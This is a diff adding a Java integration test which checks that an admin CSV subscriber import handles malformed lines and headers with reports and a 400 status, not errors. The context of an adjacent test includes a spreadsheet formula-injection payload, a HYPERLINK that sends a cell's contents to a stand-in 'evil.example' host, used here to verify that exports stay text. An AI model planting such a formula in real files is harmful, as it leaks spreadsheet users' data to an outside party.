@@ -78,6 +78,27 @@ class AdminApiTest extends IntegrationTestBase {
     }
 
     @Test
+    void aMalformedLineEndsTheImportWithAReportNotAnError() throws Exception {
+        String a = unique("before") + "@example.org";
+        String b = unique("after") + "@example.org";
+        // A quote opened and never closed: the parser cannot tell where the next record starts.
+        String csv = "email,tags\n" + a + ",ia\n" + unique("quote") + "@example.org,\"ia\n" + b + ",ia\n";
+        HttpResponse<String> report = admin("POST", "/api/admin/subscribers/import", "text/csv", csv);
+        assertThat(report.statusCode()).isEqualTo(200);
+        assertThat(report.body()).contains("\"line\":2,\"email\":\"" + a + "\",\"outcome\":\"CREATED\"")
+                .contains("\"line\":3,\"email\":\"\",\"outcome\":\"INVALID\"").contains("not valid CSV")
+                .doesNotContain(b);
+        // Text after a closing quote, too.
+        HttpResponse<String> stray = admin("POST", "/api/admin/subscribers/import", "text/csv",
+                "email,tags\n\"" + unique("stray") + "@example.org\"x,ia\n");
+        assertThat(stray.statusCode()).isEqualTo(200);
+        assertThat(stray.body()).contains("\"line\":2,\"email\":\"\",\"outcome\":\"INVALID\"");
+        // A header line that is not CSV: a 400 problem, not a 500.
+        assertThat(admin("POST", "/api/admin/subscribers/import", "text/csv", "\"email\n").statusCode())
+                .isEqualTo(400);
+    }
+
+    @Test
     void exportedCellsThatASpreadsheetWouldEvaluateStayText() throws Exception {
         String email = unique("csv") + "@example.org";
         String formula = "=HYPERLINK(\\\"http://evil.example/?\\\"&B2,\\\"x\\\")";
